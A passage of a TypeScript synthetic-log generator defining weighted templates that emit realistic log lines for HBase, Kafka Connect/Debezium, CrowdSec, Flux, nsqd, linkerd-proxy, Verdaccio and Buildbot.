    t(1, (r) => { const max = r.float(2, 8, 2); const acc = r.int(1000000, 900000000); const hits = Math.floor(acc * (0.8 + r.next() * 0.19)); return `${hbl(r, 'INFO', 'LruBlockCacheStatsExecutor', 'hfile.LruBlockCache')}totalSize=${r.float(0.5, Number(max), 2)} GB, freeSize=${r.float(0.1, 2, 2)} GB, max=${max} GB, blockCount=${r.int(1000, 90000)}, accesses=${acc}, hits=${hits}, hitRatio=${((hits / acc) * 100).toFixed(2)}%, , cachingAccesses=${acc - r.int(0, 9000)}, cachingHits=${hits - r.int(0, 9000)}, cachingHitsRatio=${(((hits - 10) / acc) * 100).toFixed(2)}%, evictions=${r.int(0, 90000)}, evicted=${r.int(0, 9000000)}, evictedPerRun=${r.float(0, 900, 5)}`; }),
    t(0.5, (r) => `${hbl(r, 'WARN', 'JvmPauseMonitor', 'util.JvmPauseMonitor')}Detected pause in JVM or host machine (eg GC): pause of approximately ${r.int(1000, 30000)}ms`),
    t(0.3, (r) => { const b = r.float(2, 6, 1); return `${hbl(r, 'WARN', hbrpc(r), 'regionserver.MemStoreFlusher')}Blocking updates: global memstore heapsize ${r.float(Number(b), Number(b) + 0.3, 1)} G is >= blocking ${b} G`; }),
    t(0.5, (r) => `${hbl(r, 'WARN', hbflusher(r), 'regionserver.MemStoreFlusher')}Region ${hbreg(r).name} has too many store files(${r.int(16, 40)}); delaying flush up to 90000ms`),
  ] },
  { name: 'kafka-connect-debezium', templates: [
    t(18, (r) => { const [c] = kcn(r); return kct(r, 'INFO', `[${c}|task-0] `, 'org.apache.kafka.connect.runtime.WorkerSourceTask', 233, `WorkerSourceTask{id=${c}-0} Committing offsets for ${r.int(1, r.next() < 0.8 ? 500 : 90000)} acknowledged messages`); }),
    t(6, (r) => { const [c] = kcn(r); return kct(r, 'INFO', `[${c}|task-0] `, 'org.apache.kafka.connect.runtime.WorkerSourceTask', 220, `WorkerSourceTask{id=${c}-0} Either no records were produced by the task since the last offset commit, or every record has been filtered out by a transformation or dropped due to transformation or conversion errors.`); }),
    t(12, (r) => { const [c, srv] = kcn(r); const lsn = r.int(20000000000, 90000000000); return kct(r, 'INFO', `[${c}|task-0] `, 'io.debezium.connector.common.BaseSourceTask', 213, `${r.int(1, 90000)} records sent during previous ${kdur(r)}, last recorded offset of {server=${srv}} partition is {transaction_id=null, lsn_proc=${lsn}, messageType=${r.pick(['INSERT', 'UPDATE', 'UPDATE', 'DELETE', 'COMMIT'])}, lsn_commit=${lsn - r.int(0, 9000)}, lsn=${lsn}, txId=${r.int(1000000, 90000000)}, ts_usec=${epoch(r)}${usec(r)}}`); }),
    t(0.6, (r) => { const [c] = kcn(r); return kct(r, 'INFO', `[${c}|task-0] `, 'io.debezium.connector.postgresql.PostgresStreamingChangeEventSource', 137, 'Searching for WAL resume position'); }),
    t(0.6, (r) => { const [c] = kcn(r); return kct(r, 'INFO', `[${c}|task-0] `, 'io.debezium.connector.postgresql.PostgresStreamingChangeEventSource', 354, `WAL resume position 'LSN{${klsn(r)}}' discovered`); }),
    t(0.6, (r) => { const [c] = kcn(r); return kct(r, 'INFO', `[${c}|task-0] `, 'io.debezium.connector.postgresql.PostgresStreamingChangeEventSource', 171, 'Processing messages'); }),
    t(1.5, (r) => { const [c] = kcn(r); return kct(r, 'INFO', `[${c}|task-0] `, 'io.debezium.connector.postgresql.connection.WalPositionLocator', 48, (() => { const a = r.int(0x10, 0x2f); const b = r.int(0x1000000, 0xfffffff0); const h = (x: number, y: number) => `${x.toString(16).toUpperCase()}/${y.toString(16).toUpperCase()}`; return `Streaming requested from LSN LSN{${h(a, b)}}, received LSN LSN{${h(a, b - r.int(0, 0xffff))}} identified as already processed`; })()); }),
    t(0.6, (r) => { const [c] = kcn(r); return kct(r, 'INFO', `[${c}|task-0] `, 'io.debezium.connector.postgresql.connection.WalPositionLocator', 40, `First LSN 'LSN{${klsn(r)}}' received`); }),
    t(0.2, (r) => { const [c] = kcn(r); return kct(r, 'INFO', `[${c}|task-0] `, 'io.debezium.relational.RelationalSnapshotChangeEventSource', 92, 'Snapshot step 1 - Preparing'); }),
    t(0.2, (r) => { const [c] = kcn(r); return kct(r, 'INFO', `[${c}|task-0] `, 'io.debezium.relational.RelationalSnapshotChangeEventSource', 172, 'Snapshot step 7 - Snapshotting data'); }),
    t(0.8, (r) => { const [c, , tabs] = kcn(r); const i = r.int(1, tabs.length); return kct(r, 'INFO', `[${c}|task-0] `, 'io.debezium.relational.RelationalSnapshotChangeEventSource', 420, `Exporting data from table '${tabs[i - 1]}' (${i} of ${tabs.length} tables)`); }),
    t(0.8, (r) => { const [c, , tabs] = kcn(r); const i = r.int(1, tabs.length); return kct(r, 'INFO', `[${c}|task-0] `, 'io.debezium.relational.RelationalSnapshotChangeEventSource', 475, `Finished exporting ${r.int(0, 9000000)} records for table '${tabs[i - 1]}' (${i} of ${tabs.length} tables); total duration '${kdur(r)}'`); }),
    t(0.2, (r) => { const [c, srv, tabs] = kcn(r); const [schema, table] = r.pick(tabs).split('.'); return kct(r, 'INFO', `[${c}|task-0] `, 'io.debezium.pipeline.ChangeEventSourceCoordinator', 136, `Snapshot ended with SnapshotResult [status=COMPLETED, offset=PostgresOffsetContext [sourceInfoSchema=Schema{io.debezium.connector.postgresql.Source:STRUCT}, sourceInfo=source_info[server='${srv}'db='${srv}', lsn=LSN{${klsn(r)}}, txId=${r.int(1000000, 90000000)}, timestamp=${ymd(r)}T${hms(r)}.${ms3(r)}Z, snapshot=FALSE, schema=${schema}, table=${table}], lastSnapshotRecord=true, lastCompletelyProcessedLsn=null, lastCommitLsn=null, streamingStoppingLsn=null, transactionContext=TransactionContext [currentTransactionId=null, perTableEventCount={}, totalEventCount=0], incrementalSnapshotContext=IncrementalSnapshotContext [windowOpened=false, chunkEndPosition=null, dataCollectionsToSnapshot=[], lastEventKeySent=null, maximumKey=null]]]`); }),
    t(0.8, (r) => kct(r, 'INFO', '', 'org.apache.kafka.connect.runtime.distributed.WorkerCoordinator', 231, `${kw(r)}Rebalance started`)),
    t(0.8, (r) => { const lead = r.pick(KWORKERS); const mine = some(r, KCONN.slice(1).map((x) => x[0]), 0, 2).filter((x, i, a) => a.indexOf(x) === i); return kct(r, 'INFO', '', 'org.apache.kafka.connect.runtime.distributed.DistributedHerder', 2419, `${kw(r)}Joined group at generation ${r.int(10, 400)} with protocol version 2 and got assignment: Assignment{error=0, leader='connect-${lead}:8083-${r.uuid()}', leaderUrl='http://${lead}:8083/', offset=${r.int(10, 900)}, connectorIds=[${mine.join(', ')}], taskIds=[${mine.map((x) => `${x}-0`).join(', ')}], revokedConnectorIds=[], revokedTaskIds=[], delay=0} with rebalance delay: 0`); }),
    t(0.5, (r) => kct(r, 'INFO', '', 'org.apache.kafka.connect.runtime.distributed.DistributedHerder', 1913, `${kw(r)}Starting task ${kcn(r)[0]}-0`)),
    t(0.4, (r) => kct(r, 'INFO', '', 'org.apache.kafka.connect.runtime.distributed.DistributedHerder', 1960, `${kw(r)}Starting connector ${kcn(r)[0]}`)),
    t(0.6, (r) => kct(r, 'INFO', '', 'org.apache.kafka.connect.runtime.distributed.DistributedHerder', 1860, `${kw(r)}Finished starting connectors and tasks`)),
    t(8, (r) => { const c = kcn(r)[0]; const [p, st] = r.pick([[`/connectors/${c}/status`, 200], [`/connectors/${c}/status`, 200], ['/connectors?expand=status&expand=info', 200], [`/connectors/${c}`, 200], [`/connectors/${c}/tasks`, 200], ['/connector-plugins', 200], ['/connectors/orders-s3-sink/status', 404]] as const); const w = kwhen(r); return kct(r, 'INFO', '', 'org.apache.kafka.connect.runtime.rest.RestServer', 62, `${skew(r, KREST, 0.5)} - - ${w.clf} "GET ${p} HTTP/1.1" ${st} ${r.int(60, 4000)} "-" "${r.pick(KUA)}" ${r.int(1, r.next() < 0.9 ? 40 : 3000)}`, w.at); }),
    t(0.6, (r) => { const c = kcn(r)[0]; const [p, st] = r.pick([[`/connectors/${c}/restart?includeTasks=true&onlyFailed=true`, 202], [`/connectors/${c}/tasks/0/restart`, 204], ['/connectors', 201], ['/connectors', 409]] as const); const w = kwhen(r); return kct(r, 'INFO', '', 'org.apache.kafka.connect.runtime.rest.RestServer', 62, `${skew(r, KREST, 0.5)} - - ${w.clf} "POST ${p} HTTP/1.1" ${st} ${r.int(0, 900)} "-" "${r.pick(KUA.slice(0, 2))}" ${r.int(5, 3000)}`, w.at); }),
    t(0.4, (r) => { const c = kcn(r)[0]; const w = kwhen(r); return kct(r, 'INFO', '', 'org.apache.kafka.connect.runtime.rest.RestServer', 62, `${skew(r, KREST, 0.5)} - - ${w.clf} "PUT /connectors/${c}/${r.pick(['config', 'config', 'pause', 'resume'])} HTTP/1.1" ${r.pick([200, 200, 202])} ${r.int(0, 3000)} "-" "${r.pick(KUA.slice(0, 2))}" ${r.int(5, 900)}`, w.at); }),
    t(2, (r) => { const [c, srv, tabs] = kcn(r); return kct(r, 'INFO', `[${c}|task-0] `, 'org.apache.kafka.clients.Metadata', 402, `[Producer clientId=connector-producer-${c}-0] Resetting the last seen epoch of partition ${srv}.${r.pick(tabs)}-${r.int(0, 5)} to ${r.int(0, 40)} since the associated topicId changed from null to ${b64url(r, 22)}`); }),
    t(0.2, (r) => { const [c] = kcn(r); return kct(r, 'ERROR', `[${c}|task-0] `, 'org.apache.kafka.connect.runtime.WorkerTask', 212, `WorkerSourceTask{id=${c}-0} Task threw an uncaught and unrecoverable exception. Task is being killed and will not recover until manually restarted`); }),
  ] },
  { name: 'crowdsec', templates: [
    t(10, (r) => { const ip = r.ip(); const w = csnow(r); return cst(r, 'info', `Ip ${ip} performed '${skew(r, CSSCEN, 0.2)}' (${r.int(2, 40)} events over ${godur(r)}) at ${w.plain}.${pad(r.int(0, 999999999), 9)} +0000 UTC`, '', w.iso); }),
    t(10, (r) => { const ip = r.ip(); return cst(r, 'info', `(${skew(r, CSMACH, 0.5)}/crowdsec) ${skew(r, CSSCEN, 0.2)} by ip ${ip} (${r.pick(CSGEO)}) : ${r.pick(CSBAN)} ban on Ip ${ip}`); }),
    t(6, (r) => cst(r, 'info', `Signal push: ${r.int(1, 40)} signals to push`)),
    t(20, (r) => { const [p, st] = r.pick([['/v1/decisions/stream', 200], ['/v1/decisions/stream?startup=false', 200], ['/v1/decisions/stream?startup=true', 200], ['/v1/heartbeat', 200], [`/v1/decisions?ip=${r.ip()}`, 200], ['/v1/decisions/stream', 403]] as const); const w = csnow(r); return cst(r, 'info', `${r.next() < 0.8 ? '127.0.0.1' : lan(r, '10.0')} - [${w.rfc}] "GET ${p} HTTP/1.1 ${st} ${cslat(r)} "${pick(r, CSUA)}" "`, '', w.iso); }),
    t(6, (r) => { const [p, st] = r.pick([['/v1/alerts', 201], ['/v1/alerts', 201], ['/v1/watchers/login', 200], ['/v1/usage-metrics', 201], ['/v1/watchers/login', 403]] as const); const w = csnow(r); return cst(r, 'info', `${r.next() < 0.8 ? '127.0.0.1' : lan(r, '10.0')} - [${w.rfc}] "POST ${p} HTTP/1.1 ${st} ${cslat(r)} "${r.next() < 0.8 ? 'crowdsec/v1.6.4-debian-pragmatic-amd64-523164f6-linux' : 'crowdsec/v1.6.3-debian-pragmatic-amd64-8d7d2b4f-linux'}" "`, '', w.iso); }),
    t(0.15, (r) => cst(r, 'info', 'Starting processing data')),
    t(0.15, (r) => cst(r, 'info', `Crowdsec v1.6.${r.pick([3, 4])}-debian-pragmatic-amd64-${r.hex(8)}-linux`)),
    t(0.15, (r) => cst(r, 'info', 'Loading prometheus collectors')),
    t(0.15, (r) => cst(r, 'info', `Loading grok library ${r.pick(['/etc/crowdsec/patterns', '/etc/crowdsec/patterns', '/usr/local/etc/crowdsec/patterns'])}`)),
    t(0.15, (r) => cst(r, 'info', 'Loading enrich plugins')),
    t(0.6, (r) => cst(r, 'info', `Successfully registered enricher '${r.pick(['GeoIpCity', 'GeoIpASN', 'IpToRange', 'reverse_dns', 'ParseDate', 'UnmarshalJSON'])}'`)),
    t(0.6, (r) => cst(r, 'info', `Adding file ${r.pick(CSFILES)} to datasources`, ' type=file')),
    t(0.2, (r) => cst(r, 'info', `Start pull from CrowdSec Central API (interval: ${r.pick(['2h0m0s', '1h58m41s', '2h0m0s'])} once, then 2h0m0s)`)),
    t(0.2, (r) => cst(r, 'info', `Start push to CrowdSec Central API (interval: ${r.pick(['10s', '7s', '12s'])} once, then 10s)`)),
    t(0.5, (r) => cst(r, 'info', `${r.pick(['crowdsecurity/community-blocklist', 'crowdsecurity/community-blocklist', 'lists:firehol_cruzit_web_attacks', 'lists:tor-exit-nodes'])} : added ${r.int(0, 15000)} entries, deleted ${r.int(0, 9000)} entries (alert:${r.int(1, 90000)})`)),
    t(0.15, (r) => cst(r, 'info', 'Killing parser routines')),
    t(0.15, (r) => cst(r, 'info', 'Bucket routine exiting')),
  ] },
  { name: 'flux', templates: [
    t(16, (r) => fx(r, 'info', 'git', `no changes since last reconcilation: observed revision '${fxrev(r)}'`)),
    t(1.5, (r) => fx(r, 'info', 'git', `stored artifact for commit '${pick(r, FXCOMMITS)}'`)),
    t(1, (r) => fx(r, 'info', r.pick(['git', 'helmchart']), `garbage collected ${r.int(1, 3)} artifacts`)),
    t(1.2, (r) => { const [n, url] = r.pick([['bitnami', 'https://charts.bitnami.com/bitnami'], ['ingress-nginx', 'https://kubernetes.github.io/ingress-nginx'], ['jetstack', 'https://charts.jetstack.io'], ['prometheus-community', 'https://prometheus-community.github.io/helm-charts'], ['grafana', 'https://grafana.github.io/helm-charts']]); return fx(r, 'info', 'helmrepo', `stored fetched index of size ${r.float(0.18, 14, 3)}MB from '${url}'`, {}, [n, 'flux-system']); }),
    t(6, (r) => (r.next() < 0.5 ? fx(r, 'info', 'helmrepo', `artifact up-to-date with remote revision: 'sha256:${r.hex(64)}'`) : fx(r, 'info', 'helmchart', `artifact up-to-date with remote revision: '${r.int(0, 70)}.${r.int(0, 20)}.${r.int(0, 9)}'`))),
    t(0.8, (r) => { const [n, chart, v] = r.pick([['monitoring-kube-prometheus-stack', 'kube-prometheus-stack', `${r.int(60, 70)}.${r.int(0, 9)}.${r.int(0, 3)}`], ['ingress-nginx-ingress-nginx', 'ingress-nginx', `4.${r.int(10, 12)}.${r.int(0, 3)}`], ['cert-manager-cert-manager', 'cert-manager', `v1.${r.int(14, 16)}.${r.int(0, 3)}`], ['shop-redis', 'redis', `20.${r.int(0, 6)}.${r.int(0, 3)}`]]); return fx(r, 'info', 'helmchart', `pulled '${chart}' chart with version '${v}'`, {}, [n, 'flux-system']); }),
    t(3, (r) => { const ns = r.pick(['shop', 'shop', 'monitoring', 'ingress-nginx', 'cert-manager']); const out: Record<string, string> = {}; for (const k of some(r, ['Deployment', 'Service', 'ConfigMap', 'HorizontalPodAutoscaler', 'Ingress', 'ServiceAccount', 'PodDisruptionBudget'], 1, 5)) out[`${k}/${ns}/${r.pick(['api', 'web', 'worker', 'redis', 'grafana'])}`] = r.next() < 0.8 ? 'unchanged' : r.pick(['configured', 'created']); return fx(r, 'info', 'ks', 'server-side apply completed', { output: out, revision: fxrev(r) }); }),
    t(0.4, (r) => fx(r, 'info', 'ks', 'server-side apply for cluster definitions completed', { output: { [`CustomResourceDefinition/${r.pick(['certificates.cert-manager.io', 'servicemonitors.monitoring.coreos.com', 'ingressroutes.traefik.io'])}`]: 'unchanged', [`Namespace/${r.pick(['shop', 'monitoring', 'cert-manager'])}`]: 'unchanged' }, revision: fxrev(r) })),
    t(14, (r) => fx(r, 'info', 'ks', `Reconciliation finished in ${fxsecs(r)}, next run in ${fxint(r)}`, { revision: fxrev(r) })),
    t(1, (r) => fx(r, 'error', 'ks', `Reconciliation failed after ${fxsecs(r)}, next try in ${fxint(r)}`, { revision: fxrev(r), error: pick(r, FXERR) })),
    t(0.8, (r) => fx(r, 'info', 'ks', `Dependencies do not meet ready condition, retrying in ${r.pick(['30s', '30s', '10s'])}`)),
    t(8, (r) => fx(r, 'info', 'hr', 'release in-sync with desired state')),
    t(0.8, (r) => fx(r, 'info', 'hr', `running '${r.pick(['upgrade', 'upgrade', 'install', 'test', 'rollback'])}' action with timeout of ${r.pick(['5m0s', '10m0s', '15m0s'])}`)),
    t(0.8, (r) => fx(r, 'info', 'hr', `release out-of-sync with desired state: ${r.pick(['release config values changed', 'chart version changed', 'release config values changed', "release was rolled back by 'helm'"])}`)),
    t(4, (r) => { const n = r.pick(['api', 'web', 'worker']); return fx(r, 'info', 'ip', `Latest image tag for 'ghcr.io/shop/${n}' resolved to ${r.next() < 0.7 ? `${r.int(1, 2)}.${r.int(0, 60)}.${r.int(0, 9)}` : `main-${r.hex(7)}-${epoch(r)}`}`, {}, [`shop-${n}`, 'flux-system']); }),
    t(4, (r) => fx(r, 'info', 'iua', 'no updates made')),
    t(1, (r) => { const k = r.pick(['ks', 'hr', 'git']); return fx(r, 'error', k, 'Reconciler error', { error: k === 'git' ? `failed to checkout and determine revision: unable to clone 'ssh://git@github.com/shop/${r.pick(['fleet', 'apps'])}': ${r.pick(['context deadline exceeded', 'ssh: handshake failed: knownhosts: key mismatch', 'dial tcp 140.82.121.4:22: i/o timeout'])}` : pick(r, FXERR) }); }),
    t(0.18, (r) => { const k = r.pick(Object.keys(FXC)); const [c, g, kind] = FXC[k]; return JSON.stringify({ level: 'info', ts: fxts(r), msg: 'Starting EventSource', controller: c, controllerGroup: g, controllerKind: kind, source: `kind source: *v1.${kind}` }); }),
    t(0.18, (r) => { const k = r.pick(Object.keys(FXC)); const [c, g, kind] = FXC[k]; return JSON.stringify({ level: 'info', ts: fxts(r), msg: 'Starting Controller', controller: c, controllerGroup: g, controllerKind: kind }); }),
    t(0.18, (r) => { const k = r.pick(Object.keys(FXC)); const [c, g, kind] = FXC[k]; return JSON.stringify({ level: 'info', ts: fxts(r), msg: 'Starting workers', controller: c, controllerGroup: g, controllerKind: kind, 'worker count': r.pick([2, 4, 4, 10]) }); }),
  ] },
  { name: 'nsqd', templates: [
    t(8, (r) => `${nq(r, 'INFO')}TCP: new client(${nqc(r)})`),
    t(8, (r) => `${nq(r, 'INFO')}CLIENT(${nqc(r)}): desired protocol magic '  V2'`),
    t(8, (r) => { const id = nqid(r); return `${nq(r, 'INFO')}[${nqc(r)}] IDENTIFY: {ClientID:${id} Hostname:${id} HeartbeatInterval:30000 OutputBufferSize:16384 OutputBufferTimeout:${r.pick([250, 250, 100])} FeatureNegotiation:true TLSv1:false Deflate:false DeflateLevel:6 Snappy:${r.next() < 0.8 ? 'false' : 'true'} SampleRate:0 UserAgent:${r.pick(NQUA)} MsgTimeout:${r.next() < 0.8 ? 0 : 120000}}`; }),
    t(7, (r) => `${nq(r, 'INFO')}PROTOCOL(V2): [${nqc(r)}] exiting ioloop`),
    t(3, (r) => `${nq(r, 'INFO')}PROTOCOL(V2): [${nqc(r)}] exiting messagePump`),
    t(1.5, (r) => { const c = nqc(r); return `${nq(r, 'ERROR')}client(${c}) - failed to read command - read tcp 10.0.4.5:4150->${c}: ${r.pick(['read: connection reset by peer', 'i/o timeout', 'read: connection reset by peer', 'use of closed network connection'])}`; }),
    t(0.5, (r) => `${nq(r, 'INFO')}TOPIC(${r.pick(NQTOPICS)}): created`),
    t(0.6, (r) => { const [tp, ch] = nqtc(r); return `${nq(r, 'INFO')}TOPIC(${tp}): new channel(${ch})`; }),
    t(0.3, (r) => { const [tp, ch] = nqtc(r); return `${nq(r, 'INFO')}TOPIC(${tp}): deleting channel ${ch}`; }),
    t(0.6, (r) => `${nq(r, 'INFO')}LOOKUPD(${r.pick(NQLOOKUP)}): topic REGISTER ${r.pick(NQTOPICS)}`),
    t(0.6, (r) => { const [tp, ch] = nqtc(r); return `${nq(r, 'INFO')}LOOKUPD(${r.pick(NQLOOKUP)}): channel REGISTER ${tp} ${ch}`; }),
    t(0.3, (r) => { const [tp, ch] = nqtc(r); return `${nq(r, 'INFO')}LOOKUPD(${r.pick(NQLOOKUP)}): channel UNREGISTER ${tp} ${ch}`; }),
    t(0.3, (r) => `${nq(r, 'INFO')}LOOKUP connecting to ${r.pick(NQLOOKUP)}`),
    t(0.3, (r) => { const l = r.pick(NQLOOKUP); return `${nq(r, 'INFO')}LOOKUPD(${l}): peer info {TCPPort:4160 HTTPPort:4161 Version:1.3.0 BroadcastAddress:${l.replace(/:4160$/, '')}}`; }),
    t(1, (r) => `${nq(r, 'INFO')}NSQ: persisting topic/channel metadata to /data/nsqd.dat`),
    t(1, (r) => `${nq(r, 'ERROR')}[${nqc(r)}] - E_FIN_FAILED FIN ${r.hex(16)} failed ID not in flight`),
    t(0.3, (r) => `${nq(r, 'ERROR')}[${nqc(r)}] - E_REQ_FAILED REQ ${r.hex(16)} failed ID not in flight`),
    t(0.12, (r) => `${nq(r, 'INFO')}nsqd v1.3.0 (built w/go1.21.5)`),
    t(0.12, (r) => `${nq(r, 'INFO')}ID: ${r.int(1, 900)}`),
    t(0.12, (r) => `${nq(r, 'INFO')}TCP: listening on [::]:4150`),
    t(0.12, (r) => `${nq(r, 'INFO')}HTTP: listening on [::]:4151`),
  ] },
  { name: 'linkerd-proxy', templates: [
    t(20, (r) => { const out = r.next() < 0.5; const ctx = out ? lkout(r, 1).c : r.next() < 0.5 ? 'inbound' : `inbound:server{port=${r.pick([8080, 8080, 3000, 4191])}}`; return `${lk(r, 'INFO', ctx, 'linkerd_app_core::serve')}Connection closed error=${r.pick(out ? LKCLOSE.slice(0, 4) : LKCLOSE)} client.addr=${lkcl(r)}${r.next() < 0.6 ? ` server.addr=${lkcl(r)}` : ''}`; }),
    t(10, (r) => { const { c, s } = lkout(r, 3); return `${lk(r, 'WARN', c, 'linkerd_reconnect')}Failed to connect error=${r.pick([`endpoint ${s.ep}:${s.tp}: Connection refused (os error 111)`, `endpoint ${s.ep}:${s.tp}: connect timed out after 1s`, `endpoint ${s.ep}:${s.tp}: No route to host (os error 113)`])}`; }),
    t(3, (r) => `${lk(r, 'INFO', lkout(r, 2).c, 'linkerd_proxy_balance_queue::worker')}Unavailable; entering failfast timeout=${r.pick(['3.0', '3.0', '10.0'])}`),
    t(3, (r) => `${lk(r, 'INFO', lkout(r, 2).c, 'linkerd_proxy_balance_queue::worker')}Available; exited failfast elapsed=${r.float(0, 30, 9)}`),
    t(6, (r) => { const out = r.next() < 0.7; const { c, s } = lkout(r, 1); const ctx = out ? `${c}:rescue{client.addr=${lkcl(r)}}` : `inbound:server{port=${r.pick([8080, 3000])}}:rescue{client.addr=${lkcl(r)}}`; const e = r.pick([[`logical service ${s.vip}:${s.p}: service in fail-fast`, 'service in fail-fast'], [`logical service ${s.vip}:${s.p}: route default.http: backend Service.${s.ns}.${s.name}:${s.p}: Service.${s.ns}.${s.name}:${s.p}: service in fail-fast`, 'service in fail-fast'], [`client ${lkcl(r)}: server: ${s.ep}:${s.tp}: server ${s.ep}:${s.tp}: service ${s.name}.${s.ns}: request timed out after 10s`, 'request timed out after 10s'], [`endpoint ${s.ep}:${s.tp}: connection closed before message completed`, 'connection closed before message completed']]); return `${lk(r, 'INFO', ctx, 'linkerd_app_core::errors::respond')}${r.pick(['HTTP/1.1', 'HTTP/1.1', 'HTTP/2.0'])} request failed error=${e[0]} error.sources=[${e[1]}]`; }),
    t(2, (r) => { const { c, s } = lkout(r, 1); const e = r.pick(['service in fail-fast', 'service unavailable']); return `${lk(r, 'INFO', `${c}:rescue{client.addr=${lkcl(r)}}`, 'linkerd_app_core::errors::respond')}gRPC request failed error=logical service ${s.vip}:${s.p}: ${e} error.sources=[${e}]`; }),
    t(1, (r) => `${lk(r, 'WARN', `watch{port=${r.pick([8080, 3000, 4191])}}`, 'linkerd_app_inbound::policy::api')}Unexpected policy controller response; retrying with a backoff grpc.status=${r.pick(['Unavailable', 'Unavailable', 'Unknown'])} grpc.message="${r.pick(['failed to connect', 'connection error: stream closed because of a broken pipe', 'Service unavailable'])}"`),
    t(0.6, (r) => `${lk(r, 'INFO', 'daemon:identity', 'linkerd_app', 2)}Certified identity id=${LKID(r.pick(['shop', 'shop', 'payments']), r.pick(['default', 'api', 'web']))}`),
    t(0.12, (r) => `${lk(r, 'INFO', '', 'linkerd2_proxy::rt', 1, true)}Using single-threaded proxy runtime`),
    t(0.12, (r) => `${lk(r, 'INFO', '', 'linkerd2_proxy', 1, true)}Admin interface on 0.0.0.0:4191`),
    t(0.12, (r) => `${lk(r, 'INFO', '', 'linkerd2_proxy', 1, true)}Inbound interface on 0.0.0.0:4143`),
    t(0.12, (r) => `${lk(r, 'INFO', '', 'linkerd2_proxy', 1, true)}Outbound interface on 127.0.0.1:4140`),
    t(0.12, (r) => `${lk(r, 'INFO', '', 'linkerd2_proxy', 1, true)}Local identity is ${LKID(r.pick(['shop', 'payments']), r.pick(['default', 'api', 'web']))}`),
    t(0.12, (r) => `${lk(r, 'INFO', '', 'linkerd2_proxy', 1, true)}Destinations resolved via linkerd-dst-headless.linkerd.svc.cluster.local:8086 (linkerd-destination.linkerd.serviceaccount.identity.linkerd.cluster.local)`),
    t(0.12, (r) => `${lk(r, 'INFO', '', 'linkerd_proxy::signal')}received SIGTERM, starting shutdown`),
    t(0.12, (r) => `${lk(r, 'INFO', '', 'linkerd2_proxy')}Received shutdown signal`),
  ] },
  { name: 'verdaccio', templates: [
    t(30, (r) => { const st = r.next() < 0.75 ? 200 : r.pick([304, 304, 200]); const path = pick(r, VDGET); return `${vd('http', '<--')}${st}, user: ${vduser(r)}, req: 'GET ${path}', bytes: 0/${st === 304 ? 0 : path.startsWith('/-/') ? r.int(2, 4000) : r.int(60, 2000000)}`; }),
    t(1.5, (r) => { const pub = r.next() < 0.6; const p = pub ? `/@shop%2f${r.pick(['ui-kit', 'api-client', 'eslint-config'])}` : `/-/user/org.couchdb.user:${r.pick(['ci-bot', 'alice', 'dmitri'])}`; return `${vd('http', '<--')}${r.pick([201, 201, 200])}, user: ${vduser(r)}, req: 'PUT ${p}', bytes: ${pub ? r.int(2000, 3000000) : r.int(90, 260)}/${r.int(20, 200)}`; }),
    t(2, (r) => `${vd('http', '<--')}200, user: ${vduser(r)}, req: 'POST ${r.pick(['/-/npm/v1/security/advisories/bulk', '/-/npm/v1/security/audits/quick'])}', bytes: ${r.int(200, 90000)}/${r.int(2, 9000)}`),
    t(0.3, (r) => `${vd('http', '<--')}${r.pick([200, 201])}, user: ${vduser(r)}, req: 'DELETE /@shop%2f${r.pick(['ui-kit', 'api-client'])}/-rev/${r.int(1, 90)}-${r.hex(16)}', bytes: 0/${r.int(20, 90)}`),
    t(5, (r) => `${vd('warn', '<--')}404, user: ${vduser(r)}, req: 'GET ${r.next() < 0.6 ? `/@shop%2f${r.pick(['legacy-utils', 'ui-kit-next', 'internal-config'])}` : `/${r.pick(['left-pad-ng', 'react-dom-legacy', 'exprss', 'lodahs'])}`}', error: ${r.next() < 0.8 ? 'no such package available' : 'not found'}`),
    t(0.6, (r) => { const pkg = r.pick(['ui-kit', 'api-client']); const u = r.pick(['alice', 'dmitri']); const deny = r.next() < 0.3; return `${vd('warn', '<--')}${deny ? 403 : 409}, user: ${u}(${lan(r, '10.0')}), req: 'PUT /@shop%2f${pkg}', error: ${deny ? `user ${u} is not allowed to publish package @shop/${pkg}` : 'this package is already present'}`; }),
    t(6, (r) => `${vd('http', '-->')}${r.next() < 0.85 ? 200 : 304}, req: 'GET ${VDUP}/${r.pick(VDPKG.filter((x) => !x.includes('shop')))}' (streaming)`),
    t(6, (r) => { const st = r.next() < 0.85 ? 200 : 304; return `${vd('http', '-->')}${st}, req: 'GET ${VDUP}/${r.pick(VDPKG.filter((x) => !x.includes('shop')))}', bytes: 0/${st === 304 ? 0 : r.int(2000, 9000000)}`; }),
    t(0.8, (r) => `${vd('warn', '-->')}ERR, req: 'GET ${VDUP}/${r.pick(VDPKG.filter((x) => !x.includes('shop')))}', error: ${r.pick(['getaddrinfo EAI_AGAIN registry.npmjs.org', 'ETIMEDOUT', 'socket hang up', 'connect ECONNREFUSED 104.16.1.35:443'])}`),
    t(0.3, () => `${vd('warn', '---')}host registry.npmjs.org is now offline`),
    t(0.3, () => `${vd('warn', '---')}host registry.npmjs.org is back online`),
    t(0.14, (r) => `${vd('info', '---')}config file  - ${r.pick(['/verdaccio/conf/config.yaml', '/verdaccio/conf/config.yaml', '/etc/verdaccio/config.yaml'])}`),
    t(0.2, (r) => `${vd('info', '---')}plugin successfully loaded: ${r.pick(['verdaccio-htpasswd', 'verdaccio-audit', 'verdaccio-ldap'])}`),
    t(0.14, () => `${vd('info', '---')}using htpasswd file: /verdaccio/storage/htpasswd`),
    t(0.14, () => `${vd('warn', '---')}the "crypt" algorithm is deprecated consider switch to "bcrypt" in the configuration file. Read the documentation for additional details`),
    t(0.14, (r) => `${vd('warn', '---')}http address - http://0.0.0.0:4873/ - verdaccio/${r.pick(['5.31.1', '5.32.2'])}`),
  ] },
  { name: 'buildbot', templates: [
    t(5, (r) => { const b = r.pick(BBBUILDERS); const [w] = bbw(r); return `${bb(r)}starting build ${bbbuild(r, b, 'None', 'not finished')} using worker <WorkerForBuilder builder='${b}' worker='${w}'>`; }),
    t(5, (r) => `${bb(r)}acquireLocks(build ${bbbuild(r, r.pick(BBBUILDERS), String(r.int(100, 9000)), 'not finished')}, locks [${r.next() < 0.7 ? '' : `(<WorkerLock(${r.pick(['cpu', 'docker'])}, 1, {})>, <buildbot.locks.LockAccess object at ${bbobj(r)}>)`}])`),
    t(5, (r) => `${bb(r)} ${bbbuild(r, r.pick(BBBUILDERS), String(r.int(100, 9000)), bbres(r))}: build finished`),
    t(5, (r) => `${bb(r)}releaseLocks(${bbbuild(r, r.pick(BBBUILDERS), String(r.int(100, 9000)), bbres(r))}): []`),
    t(3, (r) => `${bb(r)}added buildset ${r.int(1000, 90000)} to database`),
